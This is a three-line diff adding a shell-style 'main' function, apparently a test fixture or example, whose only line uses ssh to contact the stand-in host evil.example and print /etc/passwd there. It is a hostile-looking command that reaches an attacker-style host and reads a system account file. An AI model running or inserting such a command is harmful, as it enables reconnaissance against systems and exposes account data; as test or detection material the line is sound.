@@ -1,0 +1,3 @@
+def main [] {
+  ssh user@evil.example "cat /etc/passwd"
+}
